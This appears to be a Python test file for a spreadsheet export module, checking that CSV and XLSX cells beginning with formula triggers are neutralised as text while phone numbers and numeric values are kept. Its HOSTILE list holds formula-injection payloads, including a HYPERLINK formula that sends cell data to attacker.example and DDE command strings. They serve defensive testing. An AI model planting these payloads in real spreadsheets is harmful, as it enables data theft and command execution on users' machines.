"""Spreadsheet cells from data are text, never formulas: every OWASP trigger in CSV and XLSX,
read back the way Excel's own readers would see them (csv module, openpyxl)."""

import csv
import io

import openpyxl
import pytest

from activation.spreadsheet_cells import (
    FORMULA_TRIGGERS,
    csv_bytes,
    is_formula_like,
    neutralised_cells,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A2,"보기")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ["name", "phone_e164", "phone_local", "frequency", "monetary", "note"]


def rows_with(text: str) -> list[list]:
    return [[text, "+821012345678", "010-1234-5678", 3, -1500.5, "#N/A"]]


def read_back_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_starts_with_a_trigger_gets_an_apostrophe(text: str):
    header, row = read_back_csv(csv_bytes(HEADER, rows_with(text)))

    assert header == HEADER
    assert row == ["'" + text, "+821012345678", "010-1234-5678", "3", "-1500.5", "#N/A"]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_text_is_a_string_cell_never_a_formula(text: str):
    data = xlsx_bytes("list", HEADER, rows_with(text), text_columns={"phone_e164", "phone_local"})

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    name, phone, local, frequency, monetary, note = sheet[2]
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert (name.value, name.data_type, name.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    assert (phone.value, phone.data_type, phone.number_format) == ("+821012345678", "s", "@")
    assert (local.value, local.number_format) == ("010-1234-5678", "@")
    # Numbers stay numbers (a negative amount is not text, so nothing to neutralise).
    assert (frequency.value, frequency.data_type) == (3, "n")
    assert (monetary.value, monetary.data_type) == (-1500.5, "n")
    assert (note.value, note.data_type) == ("#N/A", "s")  # openpyxl made it an error cell
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_every_trigger_is_covered_and_only_e164_phones_are_left_alone():
    assert all(is_formula_like(f"{trigger}x") for trigger in FORMULA_TRIGGERS)
    assert not is_formula_like("+821012345678")
    assert not is_formula_like("+14155550123")
    # Not E.164 exactly (a space, a letter, too long): treated as any other text.
    assert is_formula_like("+82 10-1234-5678")
    assert is_formula_like("+8210123456789012345")
    assert is_formula_like("+82101234567A")
    assert not is_formula_like("김민준") and not is_formula_like(-5) and not is_formula_like(None)
    assert neutralised_cells([[h, "+821012345678", 3] for h in HOSTILE]) == len(HOSTILE)


def test_a_control_character_xml_cannot_hold_does_not_lose_the_list():
    data = xlsx_bytes("list", ["name"], [["김\x07민준\x00"]])

    assert openpyxl.load_workbook(io.BytesIO(data)).active["A2"].value == "김\ufffd민준\ufffd"
